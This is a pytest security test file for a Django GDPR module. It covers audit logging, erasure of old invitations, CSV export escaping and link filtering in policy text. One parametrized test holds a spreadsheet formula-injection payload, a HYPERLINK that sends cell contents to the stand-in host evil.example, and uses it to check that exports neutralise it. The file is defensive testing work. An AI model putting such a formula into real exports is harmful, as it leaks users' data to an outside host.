"""Security review of the privacy module: audit, erasure, exports and the text format."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import Invitation, User
from accounts.roles import Role
from assembly.invitations import hash_token
from gdpr import markup, register
from gdpr.erasure import erase_person
from gdpr.models import AuditEntry

pytestmark = pytest.mark.django_db


def test_a_password_set_by_the_dccu_in_the_admin_is_audited(
    dccu: User, dccu_client: Client, member: User
) -> None:
    new_password = "Nouveau-mot-de-passe-42"  # noqa: S105
    response = dccu_client.post(
        f"/admin/accounts/user/{member.pk}/password/",
        {"password1": new_password, "password2": new_password, "usable_password": "true"},
    )

    assert response.status_code == 302
    entry = AuditEntry.objects.get(action="admin.change", subject=member)
    assert entry.actor == dccu
    assert entry.details["page"] == "password"
    assert new_password not in str(entry.details)


def test_opening_the_password_page_of_someone_is_audited_as_a_view(
    dccu_client: Client, member: User
) -> None:
    assert dccu_client.get(f"/admin/accounts/user/{member.pk}/password/").status_code == 200

    assert AuditEntry.objects.filter(action="admin.view", subject=member).exists()


def test_erasure_deletes_earlier_invitations_to_the_persons_address(
    dccu: User, member: User
) -> None:
    now = timezone.now()
    # An earlier invitation, revoked, never linked to the account: only the address says whose.
    Invitation.objects.create(
        email=member.email, first_name="Camille", last_name="Invitée-Autrefois",
        role=Role.AGENT, invited_by=dccu, token_hash=hash_token("ancien-lien"),
        expires_at=now + timedelta(days=3), revoked_at=now,
    )

    erase_person(member, actor=dccu, reason="test")

    assert not Invitation.objects.filter(email__iexact="titulaire@example.org").exists()
    assert not Invitation.objects.filter(last_name="Invitée-Autrefois").exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_register_csv_cells_cannot_be_formulas(start: str, monkeypatch: Any) -> None:
    hostile = f'{start}HYPERLINK("https://evil.example/?x="&A1;"ok")'
    monkeypatch.setattr(register, "_row", lambda processing, data: [hostile, "texte ordinaire"])

    content = register.to_csv(register.build_register()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))

    table = [row for row in rows if row[1:] == ["texte ordinaire"]]
    assert table and all(row[0] == "'" + hostile for row in table)


def test_register_csv_leaves_ordinary_cells_as_they_are() -> None:
    content = register.to_csv(register.build_register()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content), delimiter=";"))

    assert not any(cell.startswith("'") for row in rows for cell in row)


@pytest.mark.parametrize("target", ["/\\evil.example/connexion", "//evil.example/connexion"])
def test_policy_text_links_cannot_leave_the_platform_disguised_as_a_path(target: str) -> None:
    html = markup.render(f"Voir [la page de connexion]({target}).")

    assert "<a " not in html
    assert "evil.example" in html  # shown as typed, not as a link


def test_policy_text_links_inside_the_platform_still_work() -> None:
    html = markup.render("Voir [mes données](/mes-donnees/).")

    assert '<a href="/mes-donnees/">mes données</a>' in html
